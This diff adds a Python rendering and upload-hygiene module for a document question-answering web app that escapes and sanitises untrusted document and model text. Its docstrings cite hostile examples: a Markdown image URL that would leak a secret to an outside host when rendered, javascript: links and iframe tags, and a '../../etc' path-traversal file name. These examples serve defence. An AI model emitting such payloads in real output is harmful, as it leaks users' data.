@@ -1,0 +1,357 @@
+"""HTML and Markdown for the web app: pure functions, no Gradio.
+
+Everything that came from a document or an answer is untrusted: in HTML it is escaped (html.escape), and in
+Markdown (the chat) images, links and HTML tags are stripped before the app adds its own citation links.
+"""
+from __future__ import annotations
+
+import html
+import re
+from collections.abc import Iterable
+
+from rag.model import Answer, Citation, Document, Paragraph
+
+MARKER = re.compile(r"\[(\d{1,3})\]")
+NOT_FOUND = "Not in the documents"
+
+_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(\([^)]*\)|\[[^\]]*\])")
+_LINK = re.compile(r"(?<!!)\[([^\]]+)\]\s*\(([^)]*)\)")
+_REF_DEF = re.compile(r"^\s{0,3}\[[^\]]+\]:\s*\S+.*$", re.M)
+_COMMENT = re.compile(r"<!--.*?(-->|$)", re.S)
+_TAG = re.compile(r"</?[A-Za-z][^<>]*>?")
+_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+
+
+# ---------------------------------------------------------------------------------------------- text hygiene
+def clean_markdown(text: str | None) -> str:
+    """Markdown safe to render: no images, no links (their text stays), no HTML tags, no control characters.
+
+    A document or a model can write `![](http://host/?q=secret)`; rendered, that fetches the URL. It can also write
+    `<img>`, `<iframe>` or `<a href=javascript:...>`. None of that survives here. `[n]` markers are kept.
+    """
+    if not text:
+        return ""
+    text = _CONTROL.sub("", text)
+    text = _COMMENT.sub("", text)
+    text = _IMAGE.sub(lambda m: m.group(1), text)
+    text = _LINK.sub(lambda m: m.group(1), text)
+    text = _REF_DEF.sub("", text)
+    text = _TAG.sub("", text)
+    return text.replace("<", "&lt;")
+
+
+def plain(text: str | None) -> str:
+    """Text for places that render no Markdown at all (HTML panels): tags and image syntax removed, then escaped."""
+    return html.escape(_TAG.sub("", _IMAGE.sub(lambda m: m.group(1), _CONTROL.sub("", text or ""))))
+
+
+def cite_link(turn: int, n: int) -> str:
+    """The href a [n] marker in the chat links to; the page script turns a click on it into a 'cite' event."""
+    return f"#cite-{turn}-{n}"
+
+
+def link_markers(markdown: str, turn: int, known: Iterable[int] | None = None) -> str:
+    """[n] -> a Markdown link the page can catch (only markers that name a citation of this answer)."""
+    known = set(known) if known is not None else None
+
+    def sub(m: re.Match) -> str:
+        n = int(m.group(1))
+        if known is not None and n not in known:
+            return m.group(0)
+        return f"[\\[{n}\\]]({cite_link(turn, n)})"
+
+    return MARKER.sub(sub, markdown)
+
+
+def chat_markdown(answer: Answer, turn: int) -> str:
+    """The assistant's chat message for one answer: cleaned Markdown with clickable [n] markers; a not-found
+    answer starts with a banner line so it cannot be mistaken for an answer."""
+    body = link_markers(clean_markdown(answer.answer), turn, [c.n for c in answer.citations])
+    if not answer.found:
+        banner = f'<span class="rag-notfound">{NOT_FOUND}</span>'
+        return f"{banner}\n\n{body}"
+    if answer.disagreement and answer.positions:
+        body += "\n\n_The positions are laid out side by side below the chat._"
+    return body
+
+
+def history_pairs(answers: list[Answer], limit: int = 6) -> list[tuple[str, str]]:
+    """Previous (question, answer) pairs for a follow-up question."""
+    return [(a.question, a.answer) for a in answers[-limit:]]
+
+
+# ---------------------------------------------------------------------------------------------- citations
+def where(c: Citation | Paragraph) -> str:
+    """'¶9(8) · p. 3 · Social Credit system' (escaped)."""
+    parts = [f"¶{html.escape(c.label)}"]
+    if c.page:
+        parts.append(f"p. {int(c.page)}")
+    if c.section:
+        parts.append(plain(c.section))
+    return " · ".join(parts)
+
+
+def render_sources(answer: Answer | None, turn: int = 0, active: int | None = None) -> str:
+    """The sources panel: one card per citation (title, date, ¶label, page, section, the quoted sentence).
+    Each card is a button carrying data-turn / data-n; the page turns a click into a 'cite' event."""
+    if answer is None:
+        return ('<div class="rag-sources rag-empty">Sources appear here after you ask a question. '
+                'Click a source, or a [n] marker in the answer, to read it in its document.</div>')
+    if not answer.citations:
+        return (f'<div class="rag-sources rag-empty"><div class="rag-panel-title">Sources</div>'
+                f'No passages in the documents answer “{plain(answer.question)}”.</div>')
+    cards = []
+    for c in answer.citations:
+        date = f' <span class="rag-date">({html.escape(str(c.date))})</span>' if c.date else ""
+        kind = '<span class="rag-tag">Recommendation</span> ' if c.kind == "recommendation" else ""
+        quote = c.quote or c.text
+        short = quote if len(quote) <= 400 else quote[:400].rsplit(" ", 1)[0] + " …"
+        cls = "rag-source rag-active" if active == c.n else "rag-source"
+        cards.append(
+            f'<button type="button" class="{cls}" data-turn="{int(turn)}" data-n="{int(c.n)}" '
+            f'title="Open ¶{html.escape(c.label)} in its document">'
+            f'<span class="rag-n">[{int(c.n)}]</span>'
+            f'<span class="rag-source-body">'
+            f'<span class="rag-title">{plain(c.title)}{date}</span>'
+            f'<span class="rag-where">{kind}{where(c)}</span>'
+            f'<span class="rag-quote">“{plain(short)}”</span>'
+            f'</span></button>')
+    return (f'<div class="rag-sources"><div class="rag-panel-title">Sources for “{plain(answer.question)}”'
+            f'<span class="rag-hint">click one to read it in its document</span></div>{"".join(cards)}</div>')
+
+
+def render_positions(answer: Answer | None, turn: int = 0) -> str:
+    """When the sources disagree: one column per holder (name, date, stance, summary, citation numbers)."""
+    if answer is None or not answer.positions:
+        return ""
+    known = {c.n for c in answer.citations}
+    columns = []
+    for p in answer.positions:
+        # a summary's own markers are kept only where they name this answer's citations
+        summary_markers = {int(n) for n in MARKER.findall(p.summary or "")}
+        summary = plain(p.summary)
+        if summary_markers and summary_markers <= known:
+            summary = MARKER.sub(lambda m: _marker_button(turn, int(m.group(1))), summary)
+        else:
+            summary = MARKER.sub("", summary).replace(" .", ".").strip()
+        cites = " ".join(_marker_button(turn, n) for n in p.citations if n in known)
+        date = f'<div class="rag-date">{html.escape(str(p.date))}</div>' if p.date else ""
+        stance = f'<span class="rag-stance rag-stance-{_slug(p.stance)}">{plain(p.stance)}</span>' if p.stance else ""
+        holders = "".join(f"<li>{plain(h.strip())}</li>" for h in (p.holder or "").split(";") if h.strip())
+        columns.append(
+            f'<div class="rag-position"><div class="rag-position-head">{stance}{date}</div>'
+            f'<ul class="rag-holders">{holders}</ul>'
+            f'<p class="rag-summary">{summary}</p>'
+            f'<div class="rag-position-cites">Sources: {cites or "none"}</div></div>')
+    return (f'<div class="rag-positions"><div class="rag-panel-title">The sources disagree: positions side by '
+            f'side</div><div class="rag-position-row">{"".join(columns)}</div></div>')
+
+
+def _marker_button(turn: int, n: int) -> str:
+    return f'<button type="button" class="rag-marker" data-turn="{int(turn)}" data-n="{int(n)}">[{int(n)}]</button>'
+
+
+def _slug(text: str | None) -> str:
+    return re.sub(r"[^a-z0-9]+", "-", (text or "").lower()).strip("-") or "none"
+
+
+# ---------------------------------------------------------------------------------------------- document viewer
+def highlight(text: str, quote: str | None) -> str:
+    """The paragraph escaped, with the quoted sentence(s) wrapped in <mark>. Whitespace and case may differ."""
+    if not quote:
+        return html.escape(text)
+    spans: list[tuple[int, int]] = []
+    for part in re.split(r"\s*(?:…|\.\.\.)\s*", quote):
+        tokens = part.split()
+        if not tokens:
+            continue
+        pattern = r"\s*".join(re.escape(t) for t in tokens)
+        m = re.search(pattern, text) or re.search(pattern, text, re.I)
+        if m and m.end() > m.start():
+            spans.append((m.start(), m.end()))
+    if not spans:
+        return html.escape(text)
+    spans.sort()
+    out, pos = [], 0
+    for start, end in spans:
+        if start < pos:
+            continue
+        out.append(html.escape(text[pos:start]))
+        out.append(f"<mark>{html.escape(text[start:end])}</mark>")
+        pos = end
+    out.append(html.escape(text[pos:]))
+    return "".join(out)
+
+
+def render_document(paragraphs: list[Paragraph], focus_id: str | None, quote: str | None = None,
+                    context: int | None = 3, document: Document | None = None) -> str:
+    """The paragraph in its document: `context` paragraphs above and below (None: the whole document; footnotes
+    are left out of a window unless they are the focus), the focus paragraph framed and its quote in <mark>."""
+    if not paragraphs:
+        return '<div class="rag-viewer rag-empty">This document is no longer in the library.</div>'
+    focus = next((i for i, p in enumerate(paragraphs) if p.id == focus_id), None)
+    if context is None or focus is None:
+        shown = list(range(len(paragraphs)))
+    else:
+        body = [i for i, p in enumerate(paragraphs) if p.kind != "footnote" or i == focus]
+        k = body.index(focus)
+        shown = body[max(0, k - context):k + context + 1]
+    rows = []
+    if focus is not None and paragraphs[focus].context and context is not None:
+        intro = paragraphs[focus].context.strip()
+        if not any(paragraphs[i].text.strip().startswith(intro[:60]) for i in shown):
+            rows.append(f'<div class="rag-context"><span>Introduced by</span> “{html.escape(intro)}”</div>')
+    if shown and shown[0] > 0:
+        rows.append(f'<div class="rag-more">… {shown[0]} paragraph{"s" if shown[0] != 1 else ""} above</div>')
+    for i in shown:
+        p = paragraphs[i]
+        is_focus = i == focus
+        text = highlight(p.text, quote) if is_focus else html.escape(p.text)
+        if p.kind == "heading":
+            rows.append(f'<div class="rag-doc-heading{" rag-focus" if is_focus else ""}">{text}</div>')
+            continue
+        label = "" if p.label.startswith("p") and p.label[1:].isdigit() else f"¶{html.escape(p.label)}"
+        cls = f"rag-para rag-kind-{_slug(p.kind)}" + (" rag-focus" if is_focus else "")
+        page = f'<span class="rag-page">p. {int(p.page)}</span>' if p.page else ""
+        rows.append(f'<div class="{cls}" data-pid="{html.escape(p.id)}"><div class="rag-label">{label}{page}</div>'
+                    f'<div class="rag-text">{text}</div></div>')
+    below = len(paragraphs) - 1 - shown[-1] if shown else 0
+    if below > 0:
+        rows.append(f'<div class="rag-more">… {below} paragraph{"s" if below != 1 else ""} below</div>')
+    head = ""
+    if document is not None:
+        date = f" ({html.escape(document.date)})" if document.date else ""
+        head = f'<div class="rag-doc-title">{plain(document.title)}{date}</div>'
+    if focus is not None:
+        p = paragraphs[focus]
+        head += f'<div class="rag-doc-where">{where(p)}</div>'
+    head = f'<div class="rag-doc-head">{head}</div>' if head else ""
+    return f'<div class="rag-viewer">{head}{"".join(rows)}</div>'
+
+
+def viewer_placeholder() -> str:
+    return ('<div class="rag-viewer rag-empty">Click a source or a [n] marker to read the passage in its '
+            'document, with the quoted sentence highlighted.</div>')
+
+
+# ---------------------------------------------------------------------------------------------- tables
+def document_rows(documents: list[Document]) -> list[list]:
+    return [[d.title, d.date or "", d.format, d.paragraphs, (d.added or "").replace("T", " "),
+             ", ".join(source_name(s) for s in d.sources)] for d in documents]
+
+
+def source_name(source: str) -> str:
+    """How a document's file is shown: uploads by their name in the uploads folder, others by file name only
+    (no server paths in the page)."""
+    return source if source.startswith("uploads/") else re.split(r"[/\\]", source)[-1]
+
+
+def document_choices(documents: list[Document]) -> list[tuple[str, str]]:
+    """(label, doc_id) for dropdowns; titles can repeat, so the label carries the year and a short id."""
+    out = []
+    for d in documents:
+        label = d.title + (f" ({d.date})" if d.date else "")
+        if sum(1 for o in documents if o.title == d.title) > 1:
+            label += f" [{d.doc_id[:6]}]"
+        out.append((label, d.doc_id))
+    return out
+
+
+def recommendation_rows(paragraphs: list[Paragraph], titles: dict[str, str], query: str = "",
+                        doc_id: str | None = None) -> tuple[list[list], list[str]]:
+    """Recommendation items matching a search (every word must appear, in text, section or the item it
+    belongs to) and a document filter -> (table rows, paragraph ids in row order)."""
+    terms = [t for t in re.findall(r"\w+", (query or "").lower())]
+    rows, ids = [], []
+    for p in paragraphs:
+        if p.kind != "recommendation" or (doc_id and p.doc_id != doc_id):
+            continue
+        hay = " ".join(x for x in (p.text, p.section, p.context, p.label) if x).lower()
+        if terms and not all(t in hay for t in terms):
+            continue
+        rows.append([titles.get(p.doc_id, p.doc_id), p.label, p.text, p.section or ""])
+        ids.append(p.id)
+    return rows, ids
+
+
+def question_about(p: Paragraph, title: str = "") -> str:
+    """The question 'Ask about this' puts in the chat box (the item's own words: a title's words could make the
+    question look like it is about something the documents never mention)."""
+    text = re.sub(r"\s+", " ", p.text).strip().rstrip(".;:")
+    if len(text) > 200:
+        text = text[:200].rsplit(" ", 1)[0] + " …"
+    return f"What do the documents say about “{text}”?"
+
+
+def render_ingest_report(reports) -> str:
+    """The per-file report after an upload: status, paragraphs, and for a failure the reason and what to do."""
+    if not reports:
+        return ""
+    rows = []
+    for r in reports:
+        ok = r.status != "failed"
+        why = "" if ok else " ".join(x for x in (html.escape(r.reason or ""), html.escape(r.hint or "")) if x)
+        if ok and r.status == "unchanged":
+            why = "already in the library"
+        rows.append(f'<tr><td><span class="rag-status rag-status-{_slug(r.status)}">{html.escape(r.status)}</span>'
+                    f'</td><td>{plain(r.path)}</td><td>{plain(r.title) if ok else ""}</td>'
+                    f'<td class="rag-num">{r.paragraphs if ok else "–"}</td><td>{why}</td></tr>')
+    return ('<table class="rag-report"><thead><tr><th>Status</th><th>File</th><th>Title</th><th>Paragraphs</th>'
+            f'<th>Note</th></tr></thead><tbody>{"".join(rows)}</tbody></table>')
+
+
+def render_settings(store: str, composer: str, model_server: str | None) -> str:
+    server = html.escape(model_server) if model_server else "none (answers are built from the documents' sentences)"
+    return (f'<div class="rag-settings">Library: <code>{html.escape(store)}</code> · Answers: '
+            f'<b>{html.escape(composer)}</b> · Model server: {server}</div>')
+
+
+# ---------------------------------------------------------------------------------------------- uploads
+ALLOWED_EXTENSIONS = (".pdf", ".docx", ".html", ".htm", ".md", ".txt")
+
+
+class UploadRefused(ValueError):
+    def __init__(self, reason: str, hint: str = ""):
+        super().__init__(reason)
+        self.reason, self.hint = reason, hint
+
+
+def safe_filename(name: str | None) -> str:
+    """A file name with no path parts and only safe characters (letters and digits in any script, '-', '_',
+    '.'), no leading dots, at most 120 characters, extension lower-cased: '../../etc/x.MD' -> 'x.md'."""
+    import unicodedata
+
+    name = unicodedata.normalize("NFKC", name or "")
+    name = re.split(r"[/\\]", name)[-1]
+    stem, dot, ext = name.rpartition(".")
+    if not dot:
+        stem, ext = name, ""
+    stem = re.sub(r"[^\w.-]+", "-", stem, flags=re.UNICODE)
+    stem = re.sub(r"([.-])[.-]+", r"\1", stem).strip(".-_ ")[:100] or "upload"
+    ext = re.sub(r"[^A-Za-z0-9]", "", ext).lower()[:10]
+    return f"{stem}.{ext}" if ext else stem
+
+
+def check_upload(name: str, size: int, max_mb: float) -> str:
+    """Server-side checks for an uploaded file -> its safe name; raises UploadRefused."""
+    safe = safe_filename(name)
+    ext = "." + safe.rpartition(".")[2] if "." in safe else ""
+    if ext not in ALLOWED_EXTENSIONS:
+        raise UploadRefused(f"“{ext or 'no extension'}” files are not accepted",
+                            "upload PDF, DOCX, HTML, Markdown or plain-text files (" + ", ".join(ALLOWED_EXTENSIONS) + ")")
+    if size > max_mb * 1024 * 1024:
+        raise UploadRefused(f"the file is {size / 1024 / 1024:.1f} MB; the limit is {max_mb:g} MB",
+                            "split the report, or ask the administrator to raise RAG_MAX_UPLOAD_MB")
+    if size == 0:
+        raise UploadRefused("the file is empty", "check that the upload finished")
+    return safe
+
+
+def inside(folder, path) -> bool:
+    """True when `path` (resolved) lies inside `folder` (resolved)."""
+    from pathlib import Path
+
+    try:
+        return Path(path).resolve().is_relative_to(Path(folder).resolve())
+    except (OSError, ValueError):
+        return False
